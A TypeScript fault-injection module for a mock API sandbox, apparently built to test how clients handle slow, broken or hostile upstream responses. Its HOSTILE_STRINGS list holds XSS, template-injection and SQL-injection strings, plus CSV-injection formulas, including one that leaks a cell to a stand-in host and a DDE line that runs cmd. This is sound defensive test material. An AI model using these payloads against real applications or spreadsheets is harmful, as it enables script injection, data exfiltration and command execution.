/**
 * Fault injection. A scenario's faults apply to its requests; one request can add its own with the
 * `x-sandbox-fault` header or the `sandbox_fault` query parameter (`status=503;times=2;retryAfter=1`).
 */
export interface Faults {
  /** Added delay in ms. */
  latency?: number;
  /** Added delay in ms for the requests `match` selects only (a slow read beside a fast write). */
  matchedLatency?: number;
  /** 0..1: share of requests answered 503 at random. */
  failureRate?: number;
  /** Answer with this status (and the API's error body). */
  status?: number;
  /** Seconds, sent as `Retry-After` with a forced status. */
  retryAfter?: number;
  /** `malformed-json`: not JSON; `schema`: one nested field of the wrong type; `partial`: data plus
   * a failed source (206); `hang`: never answers; `drop`: the connection is cut (a network error);
   * `hostile`: every free-text field replaced by XSS / markup / bidi payloads, every decimal by a huge
   * or tiny one (still schema-valid); `evil-next`: `next_uri` points at another origin; `drop-after`:
   * the request is carried out, then the connection is cut (the answer is lost); `inherited-names`:
   * every open value (types, statuses, products, categories) named like a property every object has;
   * `huge-decimal`: the first decimal string becomes 300,000 digits long; `stall`: the status and
   * headers are sent, then the body never ends; `mixed-currencies`: every second money value is in
   * EUR (amounts unchanged) and there is no `total_value` (no API totals across currencies). */
  body?: 'malformed-json' | 'schema' | 'partial' | 'hang' | 'drop' | 'drop-after' | 'hostile' | 'evil-next' | 'inherited-names' | 'huge-decimal' | 'stall' | 'mixed-currencies';
  /** Random extra latency, 0..jitter ms, per request (for race tests). */
  jitter?: number;
  /** Apply `status`/`body` only to the first N matching requests, then answer normally. */
  times?: number;
  /** Let the first N matching requests through before `times` starts counting (a fault in the middle of a walk). */
  after?: number;
  /** Apply `status`/`body` only to requests whose path contains this. */
  match?: string;
}

const NUMBER_KEYS = new Set(['latency', 'matchedLatency', 'failureRate', 'status', 'retryAfter', 'times', 'after', 'jitter']);

export function parseFaults(text: string | null): Faults {
  const faults: Record<string, string | number> = {};
  if (!text) return faults;
  for (const pair of text.split(';')) {
    const [key, value] = pair.split('=').map((s) => s.trim());
    if (!key || value === undefined) continue;
    faults[key] = NUMBER_KEYS.has(key) ? Number(value) : value;
  }
  return faults as Faults;
}

/** Mutates one nested string field into a number, so the schema error names a deep path. */
export function corruptNestedField(body: unknown): void {
  let minDepth = 2;
  const visit = (node: unknown, depth: number): boolean => {
    if (Array.isArray(node)) return node.some((item) => visit(item, depth + 1));
    if (!node || typeof node !== 'object') return false;
    const record = node as Record<string, unknown>;
    if (depth >= minDepth) {
      for (const [key, value] of Object.entries(record)) {
        if (typeof value === 'string' || typeof value === 'number') {
          record[key] = typeof value === 'string' ? 12345 : 'not a number';
          return true;
        }
      }
    }
    return Object.values(record).some((value) => visit(value, depth + 1));
  };
  if (!visit(body, 0)) {
    minDepth = 1; // a flat body such as `{ data: { total: 3 } }`
    visit(body, 0);
  }
}

/** Strings a hostile or compromised upstream might send. Rendered, they must stay text. */
export const HOSTILE_STRINGS = [
  '<img src=x onerror="window.__pwned=(window.__pwned||0)+1">',
  '<script>window.__pwned=(window.__pwned||0)+1</script>',
  '"><svg onload="window.__pwned=(window.__pwned||0)+1">',
  'javascript:window.__pwned=(window.__pwned||0)+1',
  '\u202Egnp.exe\u202C — right-to-left override',
  'zero\u200Bwidth\u200Djoin\uFEFFers',
  '{{constructor.constructor("window.__pwned=1")()}} ${window.__pwned=1}',
  `${'W'.repeat(3000)}`,
  "'; DROP TABLE users; --",
  // What a spreadsheet would run from an exported cell (CSV injection).
  '=HYPERLINK("https://evil.invalid/?leak="&A1,"Click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '\t=1+1',
];
const HUGE = ['123456789012345678901234567890.12', '0.000000000000000001', '99999999999999999999999999.999999'];
const KEEP = new Set(['currency', 'user_id', 'user_account_id', 'transaction_id', 'provider_id', 'next_uri', 'order_id']);

const OPEN_VALUES = new Set(['transaction_type', 'status', 'provider_auth_type', 'kyc_status', 'product', 'category', 'subcategory']);
export const INHERITED_NAMES = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];

/** Sets every open value to a name every object inherits: a lookup by it must find nothing. */
export function useInheritedNames(body: unknown): void {
  let n = 0;
  const visit = (node: unknown) => {
    if (Array.isArray(node)) return node.forEach(visit);
    if (!node || typeof node !== 'object') return;
    for (const [key, value] of Object.entries(node)) {
      if (typeof value === 'string' && OPEN_VALUES.has(key)) (node as Record<string, unknown>)[key] = INHERITED_NAMES[n++ % INHERITED_NAMES.length];
      else visit(value);
    }
  };
  visit(body);
}

/** Puts the money values (`{ amount, currency }`) of every second row in EUR, and drops `total_value`: a body in two currencies. */
export function mixCurrencies(body: unknown): void {
  const visit = (node: unknown, euro: boolean): void => {
    if (Array.isArray(node)) return node.forEach((item, i) => visit(item, euro || i % 2 === 1));
    if (!node || typeof node !== 'object') return;
    const record = node as Record<string, unknown>;
    delete record.total_value;
    if (euro && typeof record.amount === 'string' && typeof record.currency === 'string') record.currency = 'EUR';
    for (const value of Object.values(record)) visit(value, euro);
  };
  visit(body, false);
}

/** Makes the first decimal string of a body 300,000 digits long (once summed and sorted in a render). */
export function makeHugeDecimal(body: unknown): void {
  const visit = (node: unknown): boolean => {
    if (Array.isArray(node)) return node.some(visit);
    if (!node || typeof node !== 'object') return false;
    for (const [key, value] of Object.entries(node)) {
      if (typeof value === 'string' && /^-?\d+\.\d+$/.test(value)) return ((node as Record<string, unknown>)[key] = '9'.repeat(300_000)), true;
      if (visit(value)) return true;
    }
    return false;
  };
  visit(body);
}

/** Replaces free text with hostile strings and decimals with extreme ones; keeps ids, dates, currencies. */
export function makeHostile(body: unknown): void {
  let n = 0;
  const visit = (node: unknown) => {
    if (Array.isArray(node)) return node.forEach(visit);
    if (!node || typeof node !== 'object') return;
    const record = node as Record<string, unknown>;
    for (const [key, value] of Object.entries(record)) {
      if (typeof value === 'string') {
        if (KEEP.has(key) || /^\d{4}-\d{2}-\d{2}/.test(value)) continue;
        record[key] = /^-?\d+(\.\d+)?$/.test(value) ? HUGE[n++ % HUGE.length] : HOSTILE_STRINGS[n++ % HOSTILE_STRINGS.length];
      } else visit(value);
    }
  };
  visit(body);
}
